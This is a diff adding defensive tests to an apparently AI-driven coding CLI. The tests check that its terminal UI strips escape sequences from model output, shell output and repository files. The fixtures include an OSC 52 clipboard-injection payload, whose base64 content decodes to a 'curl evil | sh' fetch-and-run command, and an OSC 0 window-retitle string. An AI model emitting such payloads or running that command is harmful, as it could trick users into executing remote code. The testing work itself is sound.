@@ -162,3 +162,67 @@ def test_a_session_in_the_home_folder_cannot_write_asyncfcs_own_folders(tmp_path
     assert result.exit_code == 0, result.stderr
     assert "asyncfc's own configuration, sessions or caches" in outputs(events)
     assert not (home / planted).exists()
+
+
+OSC_TITLE = "\x1b]0;PWNED\x1b\\"
+OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x1b\\"
+
+
+def test_the_tui_sends_no_escape_sequence_from_a_command_or_the_model_to_the_terminal():
+    """Textual strips only BEL from widget text: an OSC 52 (set the clipboard to a command the user
+    may paste) or an OSC 0 (retitle the window) that a command printed, or the model wrote, went to
+    the user's terminal as it was (seen on a pty: 'out \\x1b]0;PWNEDCMD\\x1b\\\\ end')."""
+    from rich.console import Console
+
+    from asyncfc_cli import events as ev
+    from asyncfc_cli.futures import State
+    from asyncfc_cli.tui.app import AsyncfcApp
+    from tui_helpers import run
+
+    events = [
+        ev.SessionStarted(t=0.0, session_id="s", model="m", mode="async", approval="auto", root="/r"),
+        ev.UserMessage(t=0.1, text="go"),
+        ev.TextDelta(t=0.2, turn=1, text=f"model says {OSC_TITLE} this"),
+        ev.FutureCreated(t=0.3, id="f1", tool="shell", args={"command": f"echo '{OSC_CLIPBOARD}'"}),
+        ev.FutureStarted(t=0.3, id="f1"),
+        ev.FutureOutput(t=0.4, id="f1", text=f"out {OSC_CLIPBOARD} end\n"),
+        ev.FutureFinished(t=0.5, id="f1", status=State.DONE, duration=0.2, summary=f"exit code 0 {OSC_TITLE}",
+                          output=f"exit code 0\nstdout:\nout {OSC_CLIPBOARD} end"),
+        ev.Notice(t=0.6, level="warning", message=f"careful {OSC_TITLE}"),
+    ]
+
+    async def main() -> None:
+        app = AsyncfcApp(None, wall=lambda: 0.0)
+        async with app.run_test(size=(120, 40)) as pilot:
+            for event in events:
+                app.feed(event)
+            await pilot.pause()
+            await pilot.pause()
+            console = Console(file=None, force_terminal=True, width=120, color_system="truecolor")
+            sent = app.screen._compositor.render_full_update().render_segments(console)
+            assert "out" in sent and "careful" in sent
+            assert "\x1b]" not in sent  # Textual's own output uses CSI (ESC [), never OSC
+
+    run(main)
+
+
+def test_the_tuis_diff_and_own_commands_show_a_hostile_files_escape_sequences_as_text(tmp_path):
+    """/diff shows the repository's files and a '!command' what a script prints: both went to the
+    terminal with their escape sequences."""
+    from test_tui_slash import SIZE, controlled_app, notes, ready
+    from tui_helpers import run, wait_for
+
+    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
+    (tmp_path / "evil.txt").write_text(f"line {OSC_CLIPBOARD} end\n")
+
+    async def main() -> None:
+        app, _ = controlled_app(tmp_path)
+        async with app.run_test(size=SIZE) as pilot:
+            await ready(pilot, app)
+            await pilot.press(*"/diff", "enter")
+            await wait_for(pilot, lambda: "evil.txt" in notes(app))
+            await pilot.press(*"!cat evil.txt", "enter")
+            await wait_for(pilot, lambda: "line ]52;" in notes(app))
+            assert "\x1b" not in notes(app)
+
+    run(main)
